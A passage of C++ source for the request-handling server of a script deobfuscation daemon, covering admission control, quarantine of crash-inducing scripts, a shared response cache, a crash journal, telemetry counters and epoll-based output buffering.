  std::shared_ptr<Connection> conn;
  CancellationToken token;
  std::uint64_t token_id = 0;
  /// Script hash (journal/quarantine identity), computed at admission.
  std::uint64_t script_hash = 0;
  /// Shared-cache key; `cacheable` is false for trace requests and requests
  /// carrying their own options object.
  CacheKey cache_key;
  bool cacheable = false;
  /// Server-assigned request id (`w<worker>-<seq>`), echoed on every reply —
  /// the join key across logs, traces, and flight-recorder records.
  std::string request_id;
  /// telemetry::now_ns() at admission (queue-wait timing origin).
  std::uint64_t admitted_ns = 0;
  /// Time spent on the shared-cache lookup at admission (a miss; hits are
  /// answered before queueing).
  double cache_seconds = 0.0;
};

struct AtomicStats {
  std::atomic<std::uint64_t> connections_total{0};
  std::atomic<std::uint64_t> connections_active{0};
  std::atomic<std::uint64_t> requests_total{0};
  std::atomic<std::uint64_t> ok_total{0};
  std::atomic<std::uint64_t> degraded_total{0};
  std::atomic<std::uint64_t> failed_total{0};
  std::atomic<std::uint64_t> invalid_total{0};
  std::atomic<std::uint64_t> overloaded_total{0};
  std::atomic<std::uint64_t> shutting_down_total{0};
  std::atomic<std::uint64_t> disconnect_cancelled_total{0};
  std::atomic<std::uint64_t> watchdog_cancelled_total{0};
  std::atomic<std::uint64_t> admission_rejected_total{0};
  std::atomic<std::uint64_t> quarantined_total{0};
  std::atomic<std::uint64_t> cache_hits_total{0};
  std::atomic<std::uint64_t> cache_misses_total{0};
  std::atomic<std::uint64_t> cache_stores_total{0};
  std::atomic<std::uint64_t> cache_corrupt_total{0};
  std::atomic<std::uint64_t> reloads_total{0};
  std::atomic<std::uint64_t> epoll_wakeups_total{0};
  std::atomic<std::uint64_t> outbuf_bytes{0};
  std::atomic<std::uint64_t> idle_reaped_total{0};
  std::atomic<std::uint64_t> stall_reaped_total{0};
  std::atomic<std::uint64_t> outbuf_reaped_total{0};
};

/// The signal handler's only capability: one byte into the active server's
/// self-pipe ('s' = stop, 'h' = hot reload). Everything else happens on the
/// event loop.
std::atomic<int> g_signal_pipe_fd{-1};

extern "C" void serve_signal_handler(int signum) {
  int fd = g_signal_pipe_fd.load(std::memory_order_relaxed);
  if (fd >= 0) {
    char b = signum == SIGHUP ? 'h' : 's';
    [[maybe_unused]] ssize_t r = ::write(fd, &b, 1);
  }
}

}  // namespace

struct Server::Impl {
  explicit Impl(ServerConfig config)
      : cfg(std::move(config)),
        engine(cfg.options),
        queue(cfg.max_queue),
        c_ok(&telemetry::registry().counter("ideobf_server_requests_total",
                                            "status=\"ok\"")),
        c_degraded(&telemetry::registry().counter(
            "ideobf_server_requests_total", "status=\"degraded\"")),
        c_failed(&telemetry::registry().counter("ideobf_server_requests_total",
                                                "status=\"failed\"")),
        c_invalid(&telemetry::registry().counter("ideobf_server_requests_total",
                                                 "status=\"invalid\"")),
        c_overloaded(&telemetry::registry().counter(
            "ideobf_server_requests_total", "status=\"overloaded\"")),
        c_shutting_down(&telemetry::registry().counter(
            "ideobf_server_requests_total", "status=\"shutting-down\"")),
        c_connections(&telemetry::registry().counter(
            "ideobf_server_connections_total")),
        c_disconnect_cancel(&telemetry::registry().counter(
            "ideobf_server_disconnect_cancel_total")),
        c_watchdog_cancel(&telemetry::registry().counter(
            "ideobf_server_watchdog_cancel_total")),
        c_epoll_wakeups(&telemetry::registry().counter(
            "ideobf_server_epoll_wakeups_total")),
        c_idle_reaped(&telemetry::registry().counter(
            "ideobf_server_idle_reaped_total")),
        c_stall_reaped(&telemetry::registry().counter(
            "ideobf_server_reaped_total", "reason=\"write_stall\"")),
        c_outbuf_reaped(&telemetry::registry().counter(
            "ideobf_server_reaped_total", "reason=\"outbuf_high_water\"")),
        g_outbuf_bytes(
            &telemetry::registry().gauge("ideobf_server_outbuf_bytes")),
        g_queue_depth(
            &telemetry::registry().gauge("ideobf_server_queue_depth")),
        h_request_seconds(&telemetry::registry().histogram(
            "ideobf_server_request_seconds")),
        c_admission_rejected(&telemetry::registry().counter(
            "ideobf_fleet_admission_rejected_total")),
        c_quarantined(&telemetry::registry().counter(
            "ideobf_fleet_quarantined_total")),
        c_cache_hit(&telemetry::registry().counter(
            "ideobf_fleet_cache_requests_total", "result=\"hit\"")),
        c_cache_miss(&telemetry::registry().counter(
            "ideobf_fleet_cache_requests_total", "result=\"miss\"")),
        c_cache_store(&telemetry::registry().counter(
            "ideobf_fleet_cache_stores_total")),
        c_cache_corrupt(&telemetry::registry().counter(
            "ideobf_fleet_cache_corrupt_total")),
        c_reloads(&telemetry::registry().counter(
            "ideobf_fleet_reloads_total")),
        h_cache_hit_seconds(&telemetry::registry().histogram(
            "ideobf_fleet_cache_hit_seconds")),
        h_queue_wait(&telemetry::registry().histogram(
            "ideobf_server_queue_wait_seconds")) {
    live_deadline_ms = cfg.default_deadline_ms;
    live_rate = cfg.admission_rate;
    live_burst = cfg.admission_burst;
    live_blocklist = cfg.options.recovery.extra_blocklist;
  }

  ServerConfig cfg;
  Engine engine;
  FairBoundedQueue<QueueItem> queue;
  AtomicStats stats;

  // Interned once; recording is lock-free.
  telemetry::Counter* c_ok;
  telemetry::Counter* c_degraded;
  telemetry::Counter* c_failed;
  telemetry::Counter* c_invalid;
  telemetry::Counter* c_overloaded;
  telemetry::Counter* c_shutting_down;
  telemetry::Counter* c_connections;
  telemetry::Counter* c_disconnect_cancel;
  telemetry::Counter* c_watchdog_cancel;
  telemetry::Counter* c_epoll_wakeups;
  telemetry::Counter* c_idle_reaped;
  telemetry::Counter* c_stall_reaped;
  telemetry::Counter* c_outbuf_reaped;
  telemetry::Gauge* g_outbuf_bytes;
  telemetry::Gauge* g_queue_depth;
  telemetry::Histogram* h_request_seconds;
  telemetry::Counter* c_admission_rejected;
  telemetry::Counter* c_quarantined;
  telemetry::Counter* c_cache_hit;
  telemetry::Counter* c_cache_miss;
  telemetry::Counter* c_cache_store;
  telemetry::Counter* c_cache_corrupt;
  telemetry::Counter* c_reloads;
  telemetry::Histogram* h_cache_hit_seconds;
  telemetry::Histogram* h_queue_wait;

  int unix_fd = -1;
  int tcp_fd = -1;
  std::uint16_t bound_tcp_port = 0;
  int pipe_r = -1;
  int pipe_w = -1;
  /// Worker-completion doorbell: workers enqueue a response, push the
  /// connection onto `completions`, and ring this; the loop drains and
  /// flushes. Also rung by wait() to start the final flush.
  int event_fd = -1;

  std::unique_ptr<Epoll> ep;
  /// Live connections, keyed by fd. Event-loop-thread-only: no lock. The
  /// map entry pins the Connection (and so its fd) while registered.
  std::unordered_map<int, std::shared_ptr<Connection>> conns;
  std::mutex comp_mu;
  std::vector<std::shared_ptr<Connection>> completions;

  // --- observability -------------------------------------------------------
  /// Always-on ring of recent request summaries (the `debug` op); its file
  /// mirror is armed from cfg.flight_recorder_path for supervisor harvest.
  FlightRecorder flight;
  /// Armed from cfg.trace_out_path; installed process-wide so engine
  /// PhaseSpans land in it alongside the serve-side queue-wait spans.
  std::unique_ptr<telemetry::TraceRecorder> trace_recorder;
  std::atomic<std::uint64_t> next_request_seq{1};

  /// Fleet worker index used for labeling; standalone daemons are worker 0.
  [[nodiscard]] int worker_label() const {
    return cfg.worker_index < 0 ? 0 : cfg.worker_index;
  }

  std::string make_request_id() {
    return "w" + std::to_string(worker_label()) + "-" +
           std::to_string(
               next_request_seq.fetch_add(1, std::memory_order_relaxed));
  }

  // --- fleet state ---------------------------------------------------------
  std::unique_ptr<SharedResponseCache> cache;
  int journal_fd = -1;
  std::mutex quarantine_mu;
  std::unordered_set<std::string> quarantine;  ///< 16-hex script hashes
  /// Hot-reloadable knobs (SIGHUP): guarded by reload_mu, read per request.
  std::mutex reload_mu;
  std::uint64_t live_deadline_ms = 0;
  double live_rate = 0.0;
  double live_burst = 0.0;
  std::vector<std::string> live_blocklist;
  bool blocklist_overridden = false;

  std::atomic<bool> started{false};
  std::atomic<bool> stop_requested{false};
  std::atomic<bool> drain_expired{false};
  /// Set by wait() after the workers drained: the loop's only remaining job
  /// is flushing buffered responses, then it exits.
  std::atomic<bool> finalize_requested{false};
  steady::time_point drain_started{};
  std::mutex stop_mu;
  std::condition_variable stop_cv;
  std::mutex teardown_mu;
  bool torn_down = false;

  // Deadline watchdog registry: one entry per executing request.
  struct WatchEntry {
    CancellationToken token;
    steady::time_point kill_at{};
    bool has_deadline = false;
  };
  std::mutex watch_mu;
  std::list<WatchEntry> watching;

  std::jthread io_thread;
  std::jthread driver_thread;
  std::jthread watchdog_thread;

  [[nodiscard]] bool on_loop_thread() const {
    return std::this_thread::get_id() == io_thread.get_id();
  }

  // --- response path -------------------------------------------------------

  void ring_doorbell() {
    std::uint64_t one = 1;
    [[maybe_unused]] ssize_t r = ::write(event_fd, &one, sizeof(one));
  }

  void notify_loop(const std::shared_ptr<Connection>& conn) {
    {
      std::lock_guard lk(comp_mu);
      completions.push_back(conn);
    }
    ring_doorbell();
  }

  /// Dooms a connection from any thread: no more appends, fd shut down so
  /// the loop's read path observes EOF and finishes the reap. Idempotent.
  void doom(const std::shared_ptr<Connection>& conn, CloseReason reason) {
    bool first;
    {
      std::lock_guard lk(conn->out_mu);
      conn->close_reason.store(static_cast<int>(reason),
                               std::memory_order_relaxed);
      first = !conn->dead.exchange(true, std::memory_order_relaxed);
    }
    if (!first) return;
    ::shutdown(conn->fd, SHUT_RDWR);
    notify_loop(conn);
  }

  /// Queues one response line toward a client. Never blocks: from the loop
  /// thread the buffer is flushed opportunistically; from a worker the loop
  /// is rung over the eventfd. A connection already holding
  /// outbuf_high_water_bytes of unread output is doomed instead — the
  /// slow-consumer path costs a bounded buffer, never a stalled thread.
  void reply(const std::shared_ptr<Connection>& conn, std::string line) {
    line.push_back('\n');
    bool over_cap = false;
    {
      std::lock_guard lk(conn->out_mu);
      if (conn->dead.load(std::memory_order_relaxed)) return;
      if (conn->out.bytes() >= cfg.outbuf_high_water_bytes) {
        over_cap = true;
      } else {
        if (conn->out.empty()) conn->write_progress_at = steady::now();
        conn->out.append(line);
        stats.outbuf_bytes.fetch_add(line.size(), std::memory_order_relaxed);
        g_outbuf_bytes->add(static_cast<std::int64_t>(line.size()));
      }
    }
    if (over_cap) {
      stats.outbuf_reaped_total.fetch_add(1, std::memory_order_relaxed);
      c_outbuf_reaped->add();
      doom(conn, CloseReason::OutbufCap);
      return;
    }
    if (on_loop_thread()) {
      flush_conn(conn);
    } else {
      notify_loop(conn);
    }
  }

  // --- request path --------------------------------------------------------

  void handle_line(const std::shared_ptr<Connection>& conn,
                   const std::string& line) {
    WireRequest wire;
    std::string error;
    if (!parse_request_line(line, wire, error)) {
      stats.invalid_total.fetch_add(1, std::memory_order_relaxed);
      c_invalid->add();
      reply(conn, render_error_line("", kStatusInvalid, error));
      return;
    }
    switch (wire.op) {
      case WireRequest::Op::Ping:
        reply(conn, render_pong_line());
        return;
      case WireRequest::Op::Live:
        reply(conn, render_live_line());
        return;
      case WireRequest::Op::Ready:
        reply(conn, render_ready_line(
                        started.load(std::memory_order_relaxed) &&
                        !stop_requested.load(std::memory_order_relaxed)));
        return;
      case WireRequest::Op::Metrics:
        handle_metrics(conn, wire.fleet_scope);
        return;
      case WireRequest::Op::Trace:
        handle_trace(conn);
        return;
      case WireRequest::Op::Debug:
        reply(conn, "{\"status\":\"ok\",\"worker\":" +
                        std::to_string(worker_label()) + ",\"flight\":[" +
                        flight.dump_json() + "]}");
        return;
      case WireRequest::Op::Shutdown:
        if (conn->via_tcp && !cfg.allow_tcp_shutdown) {
          // TCP loopback has no peer authentication; any local process
          // could otherwise terminate the daemon. Shutdown stays a
          // unix-socket (filesystem-permissioned) privilege unless the
          // operator opted in.
          stats.invalid_total.fetch_add(1, std::memory_order_relaxed);
          c_invalid->add();
          reply(conn, render_error_line(
                          "", kStatusInvalid,
                          "shutdown is not permitted over TCP (use the unix "
                          "socket, or start with --allow-tcp-shutdown)"));
          return;
        }
        reply(conn, render_shutdown_line());
        request_stop();
        return;
      case WireRequest::Op::Deobfuscate:
        break;
    }

    stats.requests_total.fetch_add(1, std::memory_order_relaxed);
    // One request id per admitted deobfuscate request, echoed on every
    // reply path — refusals included, so a client can always join its reply
    // against server-side logs and traces.
    const std::string request_id = make_request_id();
    if (stop_requested.load(std::memory_order_relaxed)) {
      stats.shutting_down_total.fetch_add(1, std::memory_order_relaxed);
      c_shutting_down->add();
      reply(conn, render_error_line(wire.request.id, kStatusShuttingDown,
                                    "server is draining", request_id));
      return;
    }

    // Snapshot the hot-reloadable knobs once per request.
    std::uint64_t deadline_default;
    double rate;
    double burst;
    std::vector<std::string> blocklist;
    bool blocklist_over;
    {
      std::lock_guard lk(reload_mu);
      deadline_default = live_deadline_ms;
      rate = live_rate;
      burst = live_burst;
      blocklist = live_blocklist;
      blocklist_over = blocklist_overridden;
    }

    // Quarantine: a script hash that keeps killing workers is answered
    // terminally here, before it can reach an engine (or a journal) again.
    const std::uint64_t script_hash = fnv1a64(wire.request.source, 0);
    if (!cfg.quarantine_path.empty()) {
      bool listed;
      {
        std::lock_guard lk(quarantine_mu);
        listed = quarantine.contains(hash_hex(script_hash));
      }
      if (listed) {
        stats.quarantined_total.fetch_add(1, std::memory_order_relaxed);
        stats.failed_total.fetch_add(1, std::memory_order_relaxed);
        c_quarantined->add();
        c_failed->add();
        Response refusal;
        refusal.id = wire.request.id;
        refusal.result = wire.request.source;  // deobfuscation is total
        refusal.ok = false;
        refusal.failure = FailureKind::Quarantined;
        refusal.failure_detail =
            "script hash " + hash_hex(script_hash) +
            " is quarantined after repeated worker crashes";
        refusal.report.failure = refusal.failure;
        refusal.report.failure_detail = refusal.failure_detail;
        ResponseExtras extras;
        extras.request_id = request_id;
        extras.worker = worker_label();
        reply(conn, render_response_line(refusal, extras));
        return;
      }
    }

    // Admission control: each client spends from its own token bucket, so
    // one firehosing client is refused at its bucket while everyone else
    // still fits the queue.
    if (rate > 0.0) {
      const double capacity = burst > 0.0 ? burst : std::max(rate, 1.0);
      const double now = now_seconds();
      if (!conn->bucket.try_take(rate, capacity, now)) {
        stats.overloaded_total.fetch_add(1, std::memory_order_relaxed);
        stats.admission_rejected_total.fetch_add(1, std::memory_order_relaxed);
        c_overloaded->add();
        c_admission_rejected->add();
        reply(conn, render_overloaded_line(
                        wire.request.id, "per-client rate limit exceeded",
                        conn->bucket.retry_after_ms(rate, capacity, now),
                        request_id));
        return;
      }
    }

    QueueItem item;
    item.request = std::move(wire.request);
    item.conn = conn;
    item.script_hash = script_hash;
    if (item.request.deadline_ms == 0) {
      item.request.deadline_ms = deadline_default;
    }

    // Shared response cache: a hit is answered straight from the event
    // loop — no queue slot, no engine, no journal entry. Requests with
    // inline options or a trace ask (either flavor — a cached line has no
    // span breakdown to serve) are not content-addressable here.
    if (cache != nullptr && !item.request.trace &&
        !item.request.server_trace && !item.request.options.has_value()) {
      item.cacheable = true;
      item.cache_key = make_cache_key(
          item.request.source,
          options_fingerprint(cfg.options, item.request.deadline_ms,
                              blocklist,
                              resolved_cache_language(item.request.language,
                                                      item.request.source)));
      const std::uint64_t t0 = telemetry::now_ns();
      const std::uint64_t corrupt_before = cache->stats().corrupt;
      std::string cached;
      std::string line;
      if (cache->lookup(item.cache_key, cached) &&
          splice_cached_response_line(cached, item.request.id, line,
                                      request_id)) {
        stats.cache_hits_total.fetch_add(1, std::memory_order_relaxed);
        stats.ok_total.fetch_add(1, std::memory_order_relaxed);
        c_cache_hit->add();
        c_ok->add();
        h_cache_hit_seconds->observe_ns(telemetry::now_ns() - t0);
        reply(conn, std::move(line));
        return;
      }
      item.cache_seconds =
          static_cast<double>(telemetry::now_ns() - t0) / 1e9;
      stats.cache_misses_total.fetch_add(1, std::memory_order_relaxed);
      c_cache_miss->add();
      if (cache->stats().corrupt > corrupt_before) {
        stats.cache_corrupt_total.fetch_add(1, std::memory_order_relaxed);
        c_cache_corrupt->add();
      }
    }

    // Hot-reloaded blocklist: applied by attaching the server's effective
    // options to requests that carry none (the recovery memo fingerprints
    // the blocklist, so this is output-correct without an engine rebuild).
    if (blocklist_over && !item.request.options.has_value()) {
      item.request.options = cfg.options;
      item.request.options->recovery.extra_blocklist = std::move(blocklist);
    }

    item.request_id = request_id;
    item.admitted_ns = telemetry::now_ns();
    item.token = CancellationToken::make();
    item.token_id = conn->add_token(item.token);
    const std::string id = item.request.id;
    const std::uint64_t token_id = item.token_id;
    if (!queue.try_push(conn->client_id, std::move(item))) {
      conn->remove_token(token_id);
      stats.overloaded_total.fetch_add(1, std::memory_order_relaxed);
      c_overloaded->add();
      reply(conn, render_error_line(id, kStatusOverloaded,
                                    "request queue is full", request_id));
      return;
    }
    g_queue_depth->add(1);
  }

  // --- observability ops ---------------------------------------------------

  /// Rewrites this worker's durable snapshot (atomic tmp + rename), so the
  /// supervisor and fleet-scope scrapes see fresh totals. Called on every
  /// metrics op, on SIGHUP, and once more at teardown.
  void dump_metrics_snapshot() {
    if (cfg.metrics_snapshot_path.empty()) return;
    telemetry::MetricsSnapshotFile file;
    file.worker = worker_label();
    file.unix_seconds = static_cast<std::uint64_t>(::time(nullptr));
    file.requests_total = stats.requests_total.load(std::memory_order_relaxed);
    file.snapshot = telemetry::registry().snapshot();
    std::string error;
    if (!telemetry::write_file_atomic(cfg.metrics_snapshot_path,
                                      telemetry::serialize_snapshot(file),
                                      error) &&
        telemetry::log_enabled(telemetry::LogLevel::Warn)) {
      telemetry::LogEvent(telemetry::LogLevel::Warn, "server",
                          "metrics-snapshot-write-failed")
          .field("error", error);
    }
  }

  void handle_metrics(const std::shared_ptr<Connection>& conn,
                      bool fleet_scope) {
    telemetry::register_build_info();
    telemetry::update_uptime_gauge();
    dump_metrics_snapshot();
    const int worker = worker_label();
    if (!fleet_scope) {
      reply(conn,
            render_metrics_line(
                telemetry::render_prometheus(telemetry::registry()), worker));
      return;
    }
    // Fleet scope: this worker's live registry plus every sibling's durable
    // snapshot from the shared state directory.
    std::vector<telemetry::MetricsSnapshotFile> files;
    telemetry::MetricsSnapshotFile own;
    own.worker = worker;
    own.unix_seconds = static_cast<std::uint64_t>(::time(nullptr));
    own.requests_total = stats.requests_total.load(std::memory_order_relaxed);
    own.snapshot = telemetry::registry().snapshot();
    files.push_back(std::move(own));
    collect_sibling_snapshots(files);
    const int merged = static_cast<int>(files.size());
    reply(conn, render_metrics_line(
                    telemetry::render_prometheus(
                        telemetry::merge_snapshots(files)),
                    worker, merged));
  }

  /// Parses `metrics.N` files next to this worker's own snapshot path,
  /// skipping its own worker index (the live registry already covers it).
  void collect_sibling_snapshots(
      std::vector<telemetry::MetricsSnapshotFile>& files) {
    if (cfg.metrics_snapshot_path.empty()) return;
    const std::size_t slash = cfg.metrics_snapshot_path.rfind('/');
    const std::string dir = slash == std::string::npos
                                ? std::string(".")
                                : cfg.metrics_snapshot_path.substr(0, slash);
    DIR* dp = ::opendir(dir.c_str());
    if (dp == nullptr) return;
    while (dirent* entry = ::readdir(dp)) {
      const std::string_view name(entry->d_name);
      if (!name.starts_with("metrics.")) continue;
      const std::string_view suffix = name.substr(8);
      if (suffix.empty() ||
          suffix.find_first_not_of("0123456789") != std::string_view::npos) {
        continue;
      }
      std::ifstream in(dir + "/" + std::string(name));
      if (!in.is_open()) continue;
      std::ostringstream buf;
      buf << in.rdbuf();
      telemetry::MetricsSnapshotFile file;
      std::string error;
      if (!telemetry::parse_snapshot(buf.str(), file, error)) {
        if (telemetry::log_enabled(telemetry::LogLevel::Warn)) {
          telemetry::LogEvent(telemetry::LogLevel::Warn, "server",
                              "sibling-snapshot-unreadable")
              .field("file", std::string(name))
              .field("error", error);
        }
        continue;
      }
      if (file.worker == worker_label()) continue;  // own stale dump
      files.push_back(std::move(file));
    }
    ::closedir(dp);
  }

  void handle_trace(const std::shared_ptr<Connection>& conn) {
    telemetry::TraceRecorder* rec = telemetry::Telemetry::trace_recorder();
    if (rec == nullptr) {
      stats.invalid_total.fetch_add(1, std::memory_order_relaxed);
      c_invalid->add();
      reply(conn, render_error_line(
                      "", kStatusInvalid,
                      "no trace recorder armed (start serve with "
                      "--trace-out)"));
      return;
    }
    JsonWriter w;
    w.begin_object();
    w.field("status", kStatusOk);
    w.field("worker", static_cast<std::int64_t>(worker_label()));
    w.field("chrome_trace", rec->render());
    w.end_object();
    reply(conn, w.str());
  }

  /// The envelope this item runs under: the request's own limits (or the
  /// server's), the effective deadline, and the per-item cancellation token
  /// that the client's disconnect / the watchdog can fire.
  Options::Limits envelope_of(const QueueItem& item) const {
    Options::Limits lim = item.request.options.has_value()
                              ? item.request.options->limits
                              : cfg.options.limits;
    std::uint64_t deadline_ms = item.request.deadline_ms != 0
                                    ? item.request.deadline_ms
                                    : cfg.default_deadline_ms;
    if (deadline_ms != 0) {
      lim.deadline_seconds = static_cast<double>(deadline_ms) / 1000.0;
    }
    lim.cancel = item.token;
    return lim;
  }

  std::list<WatchEntry>::iterator watch(const QueueItem& item,
                                        const Options::Limits& lim) {
    WatchEntry entry;
    entry.token = item.token;
    entry.has_deadline = lim.deadline_seconds > 0.0;
    if (entry.has_deadline) {
      double factor = std::max(1.0, lim.watchdog_factor);
      entry.kill_at = steady::now() +
                      std::chrono::duration_cast<steady::duration>(
                          std::chrono::duration<double>(
                              lim.deadline_seconds * factor));
    }
    std::lock_guard lk(watch_mu);
    return watching.insert(watching.end(), std::move(entry));
  }

  void unwatch(std::list<WatchEntry>::iterator it) {
    std::lock_guard lk(watch_mu);
    watching.erase(it);
  }

  /// Journal bookkeeping around a dispatch: one fixed-size record per
  /// worker slot, rewritten in place. The kernel page cache makes the
  /// record survive this process's death (no fsync needed — the record only
  /// has to outlive the worker, not a machine crash).
  void journal_dispatch(unsigned slot, std::uint64_t script_hash) {
    if (journal_fd < 0) return;
    char record[kJournalRecordBytes];
    std::memset(record, ' ', sizeof(record));
    const std::string hex = hash_hex(script_hash);
    record[0] = 'A';
    std::memcpy(record + 2, hex.data(), hex.size());
    record[sizeof(record) - 1] = '\n';
    const ssize_t r =
        ::pwrite(journal_fd, record, sizeof(record),
                 static_cast<off_t>(slot) * kJournalRecordBytes);
    if (r != static_cast<ssize_t>(sizeof(record)) &&
        telemetry::log_enabled(telemetry::LogLevel::Warn)) {
      // A failed journal write silently blinds the supervisor's crash
      // attribution — worth a structured record.
      telemetry::LogEvent(telemetry::LogLevel::Warn, "server",
                          "journal-write-failed")
          .field("slot", static_cast<std::int64_t>(slot))
          .field("errno", r < 0 ? errno : 0)
          .field("script", hex);
    }
  }

  void journal_done(unsigned slot) {
    if (journal_fd < 0) return;
    char record[kJournalRecordBytes];
    std::memset(record, ' ', sizeof(record));
    record[0] = 'D';
    record[sizeof(record) - 1] = '\n';
    [[maybe_unused]] ssize_t r =
        ::pwrite(journal_fd, record, sizeof(record),
                 static_cast<off_t>(slot) * kJournalRecordBytes);
  }

  void process(Engine::Session& session, QueueItem& item, unsigned slot) {
    g_queue_depth->sub(1);
    // Queue wait: admission to worker-slot dispatch. Recorded straight into
    // the trace recorder (never via PhaseSpan, which would land it in the
    // engine profile and break the self-time partition invariant).
    const std::uint64_t dispatched_ns = telemetry::now_ns();
    const std::uint64_t queue_wait_ns =
        item.admitted_ns != 0 && dispatched_ns > item.admitted_ns
            ? dispatched_ns - item.admitted_ns
            : 0;
    const double queue_seconds = static_cast<double>(queue_wait_ns) / 1e9;
    h_queue_wait->observe_ns(queue_wait_ns);
    if (telemetry::TraceRecorder* rec =
            telemetry::Telemetry::trace_recorder()) {
      rec->record(telemetry::Phase::QueueWait, {}, item.admitted_ns,
                  queue_wait_ns);
    }
    if (item.conn->dead.load(std::memory_order_relaxed)) {
      // Client already gone; its tokens were cancelled at the reap. Do
      // not burn a worker slot on output nobody will read.
      item.conn->remove_token(item.token_id);
      return;
    }
    if (drain_expired.load(std::memory_order_relaxed) &&
        !item.token.cancelled()) {
      // Drain grace exhausted: queued work is cancelled up front and runs
      // straight to passthrough.
      item.token.request_cancel();
      stats.watchdog_cancelled_total.fetch_add(1, std::memory_order_relaxed);
      c_watchdog_cancel->add();
    }
    const Options::Limits lim = envelope_of(item);
    auto watch_it = watch(item, lim);
    // Flight record + journal record must both cover every instruction that
    // touches the request — including the injected crash below, which is
    // exactly the spot a hostile script would take the process down for
    // real. An abnormal death leaves this record saying "inflight", which
    // is what the supervisor's postmortem harvest looks for.
    FlightRecorder::Record frec;
    frec.request_id = item.request_id;
    frec.client_id = item.request.id;
    frec.script_hash = hash_hex(item.script_hash);
    frec.client = item.conn->client_id;
    frec.queue_seconds = queue_seconds;
    const std::uint64_t flight_seq = flight.begin(std::move(frec));
    journal_dispatch(slot, item.script_hash);
    if (cfg.server_fault != nullptr) {
      cfg.server_fault->inject(FaultSite::WorkerAbort, &item.request.source);
      cfg.server_fault->inject(FaultSite::WorkerHang, &item.request.source);
    }
    Response response = session.handle(item.request, lim);
    journal_done(slot);
    flight.finish(flight_seq, status_of(response),
                  response.report.profile.total_seconds(
                      telemetry::Phase::Pipeline),
                  response.seconds, response.report.profile);
    unwatch(watch_it);
    item.conn->remove_token(item.token_id);

    // Publish cacheable full-strength responses for the whole fleet. The
    // cached line is rendered with an empty id (spliced per request on the
    // hit path); degraded/failed responses are never cached — a response
    // shaped by this call's deadline pressure must not be replayed.
    if (item.cacheable && cache != nullptr && response.ok &&
        response.report.degradation_rung == 0 &&
        response.report.trace.empty()) {
      Response anonymous = response;
      anonymous.id.clear();
      if (cache->store(item.cache_key, render_response_line(anonymous))) {
        stats.cache_stores_total.fetch_add(1, std::memory_order_relaxed);
        c_cache_store->add();
        if (cfg.server_fault != nullptr) {
          std::string probe = item.request.source;
          if (cfg.server_fault->inject(FaultSite::CacheCorrupt, &probe)) {
            cache->corrupt_entry(item.cache_key);
          }
        }
      }
    }

    const std::string_view status = status_of(response);
    if (status == kStatusOk) {
      stats.ok_total.fetch_add(1, std::memory_order_relaxed);
      c_ok->add();
    } else if (status == kStatusDegraded) {
      stats.degraded_total.fetch_add(1, std::memory_order_relaxed);
      c_degraded->add();
    } else {
      stats.failed_total.fetch_add(1, std::memory_order_relaxed);
      c_failed->add();
    }
    h_request_seconds->observe_seconds(response.seconds);
    ResponseExtras extras;
    extras.request_id = item.request_id;
    extras.worker = worker_label();
    if (item.request.trace || item.request.server_trace) {
      extras.server_trace = true;
      extras.queue_seconds = queue_seconds;
      extras.cache_seconds = item.cache_seconds;
    }
    reply(item.conn, render_response_line(response, extras));
  }

  void worker_slot(unsigned slot) {
    telemetry::set_current_shard(slot);
    Engine::Session session = engine.session();
    QueueItem item;
    while (queue.pop(item)) {
      process(session, item, slot);
      item = QueueItem{};  // drop conn/token references promptly
    }
  }

  // --- the event loop ------------------------------------------------------

  /// Finishes a connection on the loop thread: deregisters, drops any
  /// unflushed output, cancels the client's outstanding work. Idempotent —
  /// every teardown path (EOF, error, idle/stall/cap reap, drain) lands
  /// here exactly once per connection.
  void reap_conn(const std::shared_ptr<Connection>& conn,
                 CloseReason fallback) {
    auto it = conns.find(conn->fd);
    if (it == conns.end() || it->second != conn) return;
    conns.erase(it);
    ep->del(conn->fd);
    std::size_t dropped;
    {
      std::lock_guard lk(conn->out_mu);
      conn->dead.store(true, std::memory_order_relaxed);
      dropped = conn->out.bytes();
    }
    if (dropped > 0) {
      stats.outbuf_bytes.fetch_sub(dropped, std::memory_order_relaxed);
      g_outbuf_bytes->sub(static_cast<std::int64_t>(dropped));
    }
    ::shutdown(conn->fd, SHUT_RDWR);
    const int stored = conn->close_reason.load(std::memory_order_relaxed);
    const CloseReason reason = stored != 0 ? static_cast<CloseReason>(stored)
                                           : fallback;
    switch (reason) {
      case CloseReason::Idle:
        stats.idle_reaped_total.fetch_add(1, std::memory_order_relaxed);
        c_idle_reaped->add();
        break;
      case CloseReason::WriteStall:
        stats.stall_reaped_total.fetch_add(1, std::memory_order_relaxed);
        c_stall_reaped->add();
        break;
      default:
        break;  // Disconnect / OutbufCap counted where detected
    }
    const std::size_t cancelled = conn->cancel_all();
    if (cancelled > 0) {
      stats.disconnect_cancelled_total.fetch_add(cancelled,
                                                 std::memory_order_relaxed);
      c_disconnect_cancel->add(cancelled);
    }
    stats.connections_active.fetch_sub(1, std::memory_order_relaxed);
    // Reaps other than an ordinary hangup were previously invisible outside
    // the counters; name the client and the why.
    if (reason != CloseReason::Disconnect &&
        telemetry::log_enabled(telemetry::LogLevel::Info)) {
      telemetry::LogEvent(telemetry::LogLevel::Info, "server", "conn-reaped")
          .field("client", conn->client_id)
          .field("reason", reason == CloseReason::Idle        ? "idle"
                           : reason == CloseReason::WriteStall ? "write-stall"
                           : reason == CloseReason::OutbufCap
                               ? "outbuf-high-water"
                               : "other")
          .field("cancelled", static_cast<std::uint64_t>(cancelled));
    }
  }

  /// Flushes a connection's buffered output as far as the socket allows and
  /// keeps EPOLLOUT armed exactly while bytes remain. Loop-thread-only.
  void flush_conn(const std::shared_ptr<Connection>& conn) {
    auto it = conns.find(conn->fd);
    if (it == conns.end() || it->second != conn) return;  // already reaped
    OutputBuffer::FlushResult result;
    std::size_t flushed;
    {
      std::lock_guard lk(conn->out_mu);
      if (conn->dead.load(std::memory_order_relaxed)) return;
      const std::size_t before = conn->out.bytes();
      result = before == 0 ? OutputBuffer::FlushResult::Drained
                           : conn->out.flush(conn->fd);
      flushed = before - conn->out.bytes();
      if (flushed > 0) conn->write_progress_at = steady::now();
    }
    if (flushed > 0) {
      stats.outbuf_bytes.fetch_sub(flushed, std::memory_order_relaxed);
      g_outbuf_bytes->sub(static_cast<std::int64_t>(flushed));
    }
    if (result == OutputBuffer::FlushResult::Error) {
      reap_conn(conn, CloseReason::Disconnect);
      return;
    }
    const bool want = result == OutputBuffer::FlushResult::Partial;
    if (want != conn->want_write) {
      conn->want_write = want;
      ep->mod(conn->fd, EPOLLIN | (want ? EPOLLOUT : 0u));
    }
  }

  void accept_ready(int lfd, bool via_tcp) {
